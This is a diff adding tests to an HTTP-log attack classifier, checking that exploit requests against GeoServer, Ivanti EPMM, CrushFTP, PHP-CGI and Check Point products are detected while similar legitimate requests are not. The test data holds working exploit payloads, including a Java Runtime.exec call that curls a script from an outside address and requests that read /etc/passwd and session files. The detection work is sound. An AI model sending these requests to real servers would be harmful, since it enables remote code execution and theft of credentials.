@@ -305,6 +305,131 @@ describe('remote file inclusion on any parameter', () => {
   });
 });
 
+describe('exploit requests of products in the catalog of exploited vulnerabilities', () => {
+  const ruleIds = (request: string, status: number) => classifier.requestRuleIds(record({ request, status }));
+  const GEOSERVER_RCE = "exec(java.lang.Runtime.getRuntime(),'curl+203.0.113.7/x.sh')";
+  const EPMM_EL = "%24%7B''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')%7D";
+  /** [rule id, request lines as attackers send them] */
+  const attacks: [id: string, requests: string[]][] = [
+    [
+      'exploited-geoserver',
+      [
+        `GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=${GEOSERVER_RCE} HTTP/1.1`,
+        'GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=topp:states&valueReference=exec%28java.lang.Runtime.getRuntime%28%29%2C%27id%27%29 HTTP/1.1',
+        `GET /geoserver/topp/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=topp:states&propertyName=${GEOSERVER_RCE} HTTP/1.1`,
+        'GET /wfs?request=GetPropertyValue&service=WFS&version=2.0.0&typeNames=a:b&ValueReference=exec(java.lang.Runtime.getRuntime(),%22touch%20/tmp/x%22) HTTP/1.1',
+      ],
+    ],
+    [
+      'exploited-ivanti-epmm',
+      [
+        'GET /mifs/aad/api/v2/admins/users HTTP/1.1',
+        'GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1 HTTP/1.1',
+        'GET /mifs/asfV3/api/v2/admins/users HTTP/1.1',
+        'GET /mifs/%61ad/api/v2/admins/users HTTP/1.1',
+      ],
+    ],
+    [
+      'exploited-ivanti-epmm-injection',
+      [
+        `GET /mifs/rs/api/v2/featureusage?format=${EPMM_EL} HTTP/1.1`,
+        `GET /api/v2/featureusage_history?adminDeviceSpaceId=131&format=${EPMM_EL} HTTP/1.1`,
+        'GET /api/v2/featureusage?adminDeviceSpaceId=131&format=%24%7b3*333%7d HTTP/1.1',
+        'GET /api/v2/featureusage?format=${7*7}&adminDeviceSpaceId=1 HTTP/1.1',
+        'GET /mifs/rs/api/v2/featureusage?format=%2524%257b7*7%257d HTTP/1.1',
+      ],
+    ],
+    [
+      'exploited-crushftp-injection',
+      [
+        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path=<INCLUDE>/etc/passwd</INCLUDE>&names=/bbb HTTP/1.1',
+        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path=%3CINCLUDE%3Eusers/MainUsers/groups.XML%3C/INCLUDE%3E&names=/ HTTP/1.1',
+        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path={working_dir}&names=/a HTTP/1.1',
+        'GET /WebInterface/function/?c2f=Ab1Z&command=zip&names=/&path=%7Buser_name%7Dpassword HTTP/1.1',
+        'POST /WebInterface/function?command=zip&path=%3cinclude%3e..%2f..%2fsessions.obj%3c%2finclude%3e&c2f=Ab1Z&names=/a HTTP/1.1',
+      ],
+    ],
+    [
+      'exploited-php-cgi',
+      [
+        'POST /php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
+        'POST /index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
+        'POST /test.hello?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp%3A%2F%2Finput HTTP/1.1',
+        // The soft hyphen as a byte, which a server's log writes as `\xAD`.
+        'POST /index.php?\\xADd+allow_url_include%3d1+\\xADd+auto_prepend_file%3dphp://input HTTP/1.1',
+        'POST /index.php?%25ADd+allow_url_include%253d1+%25ADd+auto_prepend_file%253dphp://input HTTP/1.1',
+        // CVE-2012-1823 as botnets send it, every character encoded.
+        'POST /cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74+%2D%6E HTTP/1.1',
+        'POST /index.php?-dallow_url_include%3d1+-dauto_prepend_file%3dphp://input HTTP/1.1',
+        'POST /cgi-bin/php5?-d+auto_prepend_file%3d/etc/passwd+-n HTTP/1.1',
+      ],
+    ],
+    [
+      'exploited-check-point',
+      ['POST /clients/MyCRL HTTP/1.1', 'POST /clients/MyCRL HTTP/1.0', 'POST /clients/My%43RL HTTP/1.1', 'POST /CLIENTS/MYCRL HTTP/1.1'],
+    ],
+  ];
+  for (const [id, requests] of attacks) {
+    for (const request of requests) {
+      it(`${id}: ${request}`, () => {
+        for (const status of [200, 400, 404]) {
+          const r = record({ request, status });
+          const ids = classifier.requestRuleIds(r);
+          assert.ok(ids.includes(id), `${status}: ${ids.join(', ')}`);
+          assert.deepEqual(ids, classifier.requestRuleIdsExhaustive(r));
+          assert.notEqual(classifier.classify(r).immediate, null);
+        }
+      });
+    }
+  }
+
+  /** The products' own pages and other requests close to the exploits: [name, request, status]. */
+  const nearMisses: [name: string, request: string, status: number][] = [
+    [
+      'a GeoServer WMS GetMap',
+      'GET /geoserver/wms?SERVICE=WMS&VERSION=1.1.1&REQUEST=GetMap&FORMAT=image%2Fpng&TRANSPARENT=true&LAYERS=topp%3Astates&STYLES=&SRS=EPSG%3A4326&WIDTH=768&HEIGHT=330&BBOX=-124.73%2C24.96%2C-66.97%2C49.37 HTTP/1.1',
+      200,
+    ],
+    [
+      'a GeoServer GetPropertyValue of a property',
+      'GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=topp:states&valueReference=STATE_NAME HTTP/1.1',
+      200,
+    ],
+    [
+      'a GeoServer GetFeature of two properties',
+      'GET /geoserver/ows?service=WFS&version=1.1.0&request=GetFeature&typeName=topp:states&propertyName=STATE_NAME,PERSONS&maxFeatures=10&outputFormat=application/json HTTP/1.1',
+      200,
+    ],
+    ['the EPMM portal reading feature usage', 'GET /api/v2/featureusage?adminDeviceSpaceId=1&format=csv HTTP/1.1', 200],
+    ['the EPMM portal reading feature usage history', 'GET /api/v2/featureusage_history?adminDeviceSpaceId=1&format=json HTTP/1.1', 200],
+    ['the CrushFTP login page', 'GET /WebInterface/login.html HTTP/1.1', 200],
+    ['a CrushFTP listing', 'POST /WebInterface/function/?command=getXMLListing&format=JSONOBJ&path=%2Fdocs%2F&random=0.53&c2f=Ab1Z HTTP/1.1', 200],
+    // The same template in a POST body: the log keeps the endpoint alone.
+    ['a CrushFTP function with its parameters in the body', 'POST /WebInterface/function/ HTTP/1.1', 200],
+    ['a negative id on a PHP page', 'GET /index.php?id=-1 HTTP/1.1', 200],
+    ['a PHP download', 'GET /downloads/php-8.3.9-Win32-vs16-x64.zip HTTP/1.1', 200],
+    ['the Check Point Mobile Access login page', 'GET /sslvpn/Login/Login HTTP/1.1', 200],
+    ['a Check Point Mobile Access login', 'POST /sslvpn/Login/Login HTTP/1.1', 302],
+    ['a GET of the CRL endpoint', 'GET /clients/MyCRL HTTP/1.1', 200],
+  ];
+  for (const [name, request, status] of nearMisses) {
+    it(`leaves alone ${name}`, () => {
+      const c = classifier.classify(record({ request, status }));
+      assert.deepEqual(
+        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
+        [],
+        request,
+      );
+    });
+  }
+
+  it('names no product for a search that only mentions a PHP setting or a template tag', () => {
+    for (const request of ['GET /search?q=should+allow_url_include+be+on HTTP/1.1', 'GET /search?q=%3Cinclude%3E+layout+android HTTP/1.1']) {
+      assert.ok(!ruleIds(request, 200).some((id) => id.startsWith('exploited-')), request);
+    }
+  });
+});
+
 describe('scanner and attack-tool identities', () => {
   it('every tool, marker and exploited product names a source', () => {
     for (const t of SCANNER_TOOLS) assert.ok(t.references.length > 0 && t.references.every((r) => r.startsWith('http')), t.name);
